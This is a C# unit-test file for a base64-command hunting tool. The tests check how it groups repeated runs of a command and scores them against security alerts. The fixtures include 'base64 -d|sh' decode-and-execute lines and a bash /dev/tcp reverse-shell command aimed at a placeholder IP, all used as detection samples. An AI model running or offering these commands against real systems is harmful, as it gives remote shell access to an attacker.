using System;
using System.Collections.Generic;
using System.Linq;
using B64Hunt.Model;
using B64Hunt.Scoring;
using B64Hunt.Sources;
using Xunit;

namespace B64Hunt.Tests.Sources
{
    public class ExecutionAggregatorTests
    {
        private static readonly DateTime T0 = new DateTime(2026, 11, 1, 8, 0, 0, DateTimeKind.Utc);

        private static CommandEvent Run(string line, string host, string? account, DateTime? time, string payload = "Y3VybA==", string decoded = "curl") =>
            new CommandEvent
            {
                CommandLine = line, CommandLineRaw = line, Computer = host, ComputerRaw = host, Account = account, AccountRaw = account,
                TimeGenerated = time, EncodedText = payload, DecodedCommand = decoded, Source = "f.log:" + (time?.Minute ?? 0),
            };

        [Fact]
        public void OneEventPerLineHostAndAccountWithEveryRunsTimeInOrder()
        {
            var aggregator = new ExecutionAggregator();
            aggregator.Add(Run("echo X|base64 -d|sh", "web1", "root", T0.AddMinutes(30)));
            aggregator.Add(Run("echo X|base64 -d|sh", "web2", "root", T0.AddMinutes(10)));
            aggregator.Add(Run("echo X|base64 -d|sh", "web1", "root", T0.AddMinutes(5)));
            aggregator.Add(Run("echo X|base64 -d|sh", "web1", "bob", T0));
            aggregator.Add(Run("echo X|base64 -d|sh", "web1", "root", null));

            var events = aggregator.Complete();

            Assert.Equal(5, aggregator.Executions);
            Assert.Equal(3, events.Count);
            var web1 = events[0];
            Assert.Equal(("web1", "root", 3L), (web1.Computer, web1.Account, web1.EventCount));
            Assert.Equal(new[] { T0.AddMinutes(5), T0.AddMinutes(30) }, web1.ExecutionTimes);
            Assert.Equal(T0.AddMinutes(5), web1.FirstSeen);
            Assert.Equal(T0.AddMinutes(30), web1.LastSeen);
            Assert.Equal(T0.AddMinutes(5), web1.TimeGenerated);
            Assert.Equal("f.log:30", web1.Source); // the first run's
            // A single run is exactly the plain event: no ExecutionTimes, no FirstSeen.
            Assert.All(events.Skip(1), e => Assert.True(e.EventCount == 1 && e.ExecutionTimes.Count == 0 && e.FirstSeen == null));
        }

        [Fact]
        public void PayloadsOfOneLineStaySeparateAndAChangedDecodeIsItsOwnEvent()
        {
            var aggregator = new ExecutionAggregator();
            string line = "echo A|base64 -d; echo B|base64 -d";
            for (int i = 0; i < 2; i++)
            {
                aggregator.Add(Run(line, "h", null, T0.AddHours(i), "QQ==", "A"));
                aggregator.Add(Run(line, "h", null, T0.AddHours(i), "Qg==", "B"));
            }
            var cut = Run(line, "h", null, T0.AddHours(3), "Qg==", "B");
            cut.IsTruncated = true;
            aggregator.Add(cut);

            var events = aggregator.Complete();

            Assert.Equal(new[] { "A", "B", "B" }, events.Select(e => e.DecodedCommand));
            Assert.Equal(new[] { 2L, 2L, 1L }, events.Select(e => e.EventCount));
            Assert.True(events[2].IsTruncated);
        }

        [Fact]
        public void TheScorerRanksAggregatedRunsAsItRanksThemOneByOne()
        {
            var runs = new List<CommandEvent>();
            for (int i = 0; i < 12; i++) runs.Add(Run("echo S|base64 -d|sh", "db" + (i % 3), "root", T0.AddHours(6 * i), "Uw==", "crontab -l"));
            runs.Add(Run("echo R|base64 -d|sh", "web1", "www", T0.AddHours(20), "Ug==", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"));
            runs.Add(Run("echo R|base64 -d|sh", "web1", "www", T0.AddHours(21), "Ug==", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"));
            var alerts = new[]
            {
                new RelatedAlert { Computer = "web1", AlertName = "Reverse shell", Severity = AlertSeverity.High, TimeGenerated = T0.AddHours(21.2) },
                new RelatedAlert { Computer = "db1", AlertName = "Odd cron", Severity = AlertSeverity.Medium, TimeGenerated = T0.AddHours(30.5) },
            };
            var aggregator = new ExecutionAggregator();
            foreach (var r in runs) aggregator.Add(Clone(r));
            var aggregated = aggregator.Complete();
            Assert.Equal(4, aggregated.Count);

            foreach (var model in new[] { ScoringModel.Default, ScoringModel.Notebook })
            {
                foreach (var window in new TimeSpan?[] { null, TimeSpan.FromHours(1) })
                {
                    var plain = CommandScorer.Score(runs, alerts, null, window, model).Scores;
                    var summed = CommandScorer.Score(aggregated, alerts, null, window, model).Scores;
                    Assert.Equal(plain.Select(Describe), summed.Select(Describe));
                }
            }
        }

        [Fact]
        public void RowsWhoseRunsAreNotInstantsAreKeptAsTheyCame()
        {
            // A service-aggregated row is one run from FirstSeen to LastSeen, and Hostnames put a run on several hosts:
            // ExecutionTimes cannot hold either, so folding them would move an alert window.
            var aggregator = new ExecutionAggregator();
            var row = Run("echo X|base64 -d|sh", "web1", "root", T0);
            row.EventCount = 4;
            row.FirstSeen = T0;
            row.LastSeen = T0.AddHours(3);
            var again = Run("echo X|base64 -d|sh", "web1", "root", T0.AddHours(5));
            again.EventCount = 2;
            again.FirstSeen = T0.AddHours(5);
            again.LastSeen = T0.AddHours(6);
            var fleet = Run("echo X|base64 -d|sh", "web1", "root", T0.AddHours(7));
            fleet.Hostnames = new List<string> { "web1", "web2" };
            aggregator.Add(row);
            aggregator.Add(again);
            aggregator.Add(fleet);
            // An aggregate (Get-B64Command -Summarize) already stands for its runs.
            var summarized = Run("echo X|base64 -d|sh", "web1", "root", T0.AddHours(1));
            summarized.EventCount = 2;
            summarized.ExecutionTimes = new List<DateTime> { T0.AddHours(1), T0.AddHours(2) };
            aggregator.Add(summarized);
            aggregator.Add(Run("echo X|base64 -d|sh", "web1", "root", T0.AddHours(8)));
            aggregator.Add(Run("echo X|base64 -d|sh", "web1", "root", T0.AddHours(9)));

            var events = aggregator.Complete();

            Assert.Equal(5, events.Count);
            Assert.Same(row, events[0]);
            Assert.Same(again, events[1]);
            Assert.Same(fleet, events[2]);
            Assert.Equal((4L, T0, T0.AddHours(3)), (row.EventCount, row.FirstSeen!.Value, row.LastSeen!.Value));
            Assert.Same(summarized, events[3]);
            Assert.Equal(new[] { T0.AddHours(8), T0.AddHours(9) }, events[4].ExecutionTimes);
            Assert.Equal(11, aggregator.Executions);
        }

        [Fact]
        public void LeavingEventsUnchangedFoldsIntoACopyAndKeepsEventsBuiltWithoutRawValuesApart()
        {
            // The scorer folds events that belong to the caller; hand-built ones may carry Computer but no ComputerRaw.
            var aggregator = new ExecutionAggregator(leaveEventsUnchanged: true);
            var first = new CommandEvent { Computer = "web1", DecodedCommand = "id", TimeGenerated = T0 };
            var second = new CommandEvent { Computer = "web1", DecodedCommand = "id", TimeGenerated = T0.AddMinutes(1) };
            var other = new CommandEvent { Computer = "web2", DecodedCommand = "id", TimeGenerated = T0.AddMinutes(2) };
            aggregator.Add(second);
            aggregator.Add(first);
            aggregator.Add(other);

            var events = aggregator.Complete();

            Assert.Equal(2, events.Count);
            Assert.NotSame(second, events[0]);
            Assert.Equal((2L, T0, T0.AddMinutes(1)), (events[0].EventCount, events[0].FirstSeen!.Value, events[0].LastSeen!.Value));
            Assert.Equal(new[] { T0, T0.AddMinutes(1) }, events[0].ExecutionTimes);
            Assert.Same(other, events[1]);
            foreach (var e in new[] { first, second, other })
            {
                Assert.Equal(1, e.EventCount);
                Assert.Empty(e.ExecutionTimes);
                Assert.Null(e.FirstSeen);
            }
            Assert.Equal(T0.AddMinutes(1), second.TimeGenerated);
        }

        [Fact]
        public void EqualRunsFoldWhetherTheRawLineIsTheCleanedStringOrACopyOfIt()
        {
            // A deserialised event has its own copy of each string; one from the reader shares the cleaned and raw line.
            var aggregator = new ExecutionAggregator(leaveEventsUnchanged: true);
            var read = Run("echo X|base64 -d|sh", "web1", "root", T0);
            var saved = Run("echo X|base64 -d|sh", "web1", "root", T0.AddMinutes(1));
            saved.CommandLineRaw = new string(saved.CommandLine.ToCharArray());
            aggregator.Add(read);
            aggregator.Add(saved);

            var events = aggregator.Complete();

            Assert.Single(events);
            Assert.Equal(2, events[0].EventCount);
        }

        private static string Describe(CommandScore s) => string.Join("|", s.Rank, s.DecodedCommand, s.TotalScore.ToString("R"), s.FreqScore.ToString("R"),
            s.RoutineScore.ToString("R"), s.AlertScore.ToString("R"), s.CommandCount, s.TotalHosts, s.FirstSeen, s.LastSeen,
            string.Join(",", s.Alerts.Select(a => a.AlertName)), string.Join(" / ", s.ScoreReasons));

        private static CommandEvent Clone(CommandEvent e) => Run(e.CommandLineRaw, e.Computer!, e.Account, e.TimeGenerated, e.EncodedText, e.DecodedCommand);
    }
}
